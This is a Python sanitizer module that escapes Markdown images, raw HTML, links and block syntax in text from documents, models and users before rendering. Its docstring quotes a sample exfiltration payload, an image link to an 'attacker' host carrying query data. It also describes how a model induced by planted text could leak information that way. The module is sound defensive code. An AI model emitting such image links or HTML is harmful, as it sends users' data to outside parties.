"""Text from documents, models and users, made inert before it goes into Markdown we render.

A planted `![x](https://attacker/?q=...)` would make every reader's browser fetch that address
(and tell it whatever the model was induced to put there), and `<img onerror=...>` or
`<script>` is HTML. A renderer may be told to render no raw HTML, but the text must not depend
on that setting. So `<`, `!`, the `[` after a `!` and `\\` are backslash-escaped: Markdown shows
them as the characters they are, an image or a tag shows as its text, and the rest (emphasis,
lists, tables, our own framing) still renders.

Documents we hand over (a brief in Markdown) go further with `inert_line` and `inert_cell`:
no link either, no line that starts a heading, list, quote or code block, and no `|` or line
break that would split a table cell. Citation markers such as `[2]` stay as they are written,
so they tie the text to its numbered source list.
"""

from __future__ import annotations

import re

# Each `!` is escaped on its own as well: a streamed answer arrives token by token, and a `!`
# at the end of one token must not open an image with the `[` that starts the next.
_SPECIAL = re.compile(r"!\[|[!<\\]")

# A `[` that opens a citation marker `[2]` or `[1, 3]` is left alone; any other `[` could open a
# link (`[x](url)`, `[x][ref]`) or a reference definition (`[x]: url`), and is escaped. A marker
# directly followed by `(`, `[` or `:` would itself be a link, so it is escaped too.
_LINE_SPECIAL = re.compile(r"!\[|[!<\\]|\[(?!\d+(?:\s*,\s*\d+)*\](?![(\[:]))")

# What makes a line a block in CommonMark when it opens the line: a heading, quote, list item,
# thematic break, setext underline, code fence or table row.
_BLOCK_START = re.compile(r"^(?:[#>+\-*_=`~|]|\d+(?=[.)]))")


def _escape(match: re.Match[str]) -> str:
    return "".join(f"\\{c}" for c in match.group())


def _one_line(text: str) -> str:
    return " ".join(_LINE_SPECIAL.sub(_escape, text).split())


def inert_markdown(text: str) -> str:
    """`text` with no image or raw HTML left in it; on screen it reads as it did."""
    return _SPECIAL.sub(_escape, text)


def inert_line(text: str) -> str:
    """`text` as one line of plain Markdown text: no image, HTML, link or block of its own.

    Whitespace runs (line breaks too) become one space, so the text cannot end the paragraph,
    list item or quote we put it in, nor start a block of its own.
    """
    line = _one_line(text)
    start = _BLOCK_START.match(line)
    if start is None:
        return line
    if start.group()[0].isdigit():  # "2024. was" would open an ordered list at 2024
        end = start.end()
        return f"{line[:end]}\\{line[end:]}"
    return f"\\{line}"


def inert_cell(text: str) -> str:
    """`text` as the content of one table cell: inert, on one line, with no `|` to split it.

    A cell holds inline text only, so what would open a block at the start of a line is left.
    """
    return _one_line(text).replace("|", "\\|")
